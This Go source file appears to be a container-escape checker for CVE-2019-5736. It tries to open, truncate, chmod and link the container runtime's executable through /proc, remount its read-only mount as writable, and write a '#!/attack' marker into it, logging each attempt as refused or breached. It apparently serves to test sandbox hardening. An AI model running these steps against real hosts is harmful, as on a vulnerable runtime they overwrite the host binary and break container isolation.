package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// overwrite NAME...: opens the program of every process of these names for
// writing, in each way that has worked somewhere (CVE-2019-5736).
func overwrite(args []string) {
	met := 0
	for _, pid := range pids() {
		name := argv0(pid)
		for _, want := range args {
			if name == want {
				met++
				writeExe(pid, name)
			}
		}
	}
	fmt.Printf("met %d\n", met)
}

func writeExe(pid int, name string) {
	path := fmt.Sprintf("/proc/%d/exe", pid)
	for how, flags := range map[string]int{"O_WRONLY": unix.O_WRONLY, "O_RDWR": unix.O_RDWR, "O_TRUNC": unix.O_WRONLY | unix.O_TRUNC, "O_APPEND": unix.O_WRONLY | unix.O_APPEND} {
		fd, err := unix.Open(path, flags|unix.O_CLOEXEC, 0)
		if err == unix.ETXTBSY { // would be allowed once it has ended
			err = nil
		}
		refused(name+" open exe "+how, err, "writable")
		if err == nil && fd > 0 {
			_ = unix.Close(fd)
		}
	}
	refused(name+" chmod exe", unix.Chmod(path, 0o777), "mode changed")
	refused(name+" truncate exe", unix.Truncate(path, 0), "truncated")
	refused(name+" link exe", unix.Linkat(unix.AT_FDCWD, path, unix.AT_FDCWD, "/stolen"+strconv.Itoa(pid), unix.AT_SYMLINK_FOLLOW), "a link to it in this container")
}

// catch-exe SECONDS PATTERN: waits for a process whose program's path contains
// PATTERN (the runtime's, brought to execute itself by the image), holds it open,
// and tries to write to it for the rest of the time: while it runs the answer is
// ETXTBSY, the moment after it ended it would be yes.
func catchExe(args []string) {
	seconds, _ := strconv.ParseFloat(args[0], 64)
	end := time.Now().Add(time.Duration(seconds * float64(time.Second)))
	caught := map[string]bool{}
	for time.Now().Before(end) {
		for _, pid := range pids() {
			path := fmt.Sprintf("/proc/%d/exe", pid)
			fd, err := unix.Open(path, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			self := "/proc/self/fd/" + strconv.Itoa(fd)
			// A mount of nothing but the program shows it as "/".
			if to, _ := os.Readlink(self); to == "/" || strings.Contains(to, args[1]) {
				caught[to] = true
				remount(fd) // at once: with its shim the mount goes
				rewrite(self)
			}
			_ = unix.Close(fd)
		}
	}
	fmt.Printf("caught %d\n", len(caught))
}

// rewrite tries until the program has surely ended.
func rewrite(path string) {
	for range 200 {
		fd, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			_, err = unix.Write(fd, []byte("#!/attack\n"))
			breach("write to the runtime's program", "opened; write: %v", err)
			return
		}
		held("write to the runtime's program", err)
		if err != unix.ETXTBSY {
			break
		}
		time.Sleep(time.Millisecond)
	}
}

// remount tries to make the mount that the program lies on writable: through the
// descriptor itself, and through a clone of the mount.
func remount(fd int) {
	attr := unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
	refused("make the runtime's mount writable",
		unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, &attr), "done")
	tree, err := unix.OpenTree(fd, "", unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC|unix.AT_EMPTY_PATH)
	if err != nil {
		held("clone the runtime's mount", err)
		return
	}
	defer unix.Close(tree)
	err = unix.MountSetattr(tree, "", unix.AT_EMPTY_PATH, &attr)
	if err == nil {
		var w int
		if w, err = unix.Open("/proc/self/fd/"+strconv.Itoa(tree), unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
			_ = unix.Close(w)
		}
	}
	refused("write through a clone of the runtime's mount", err, "done")
}
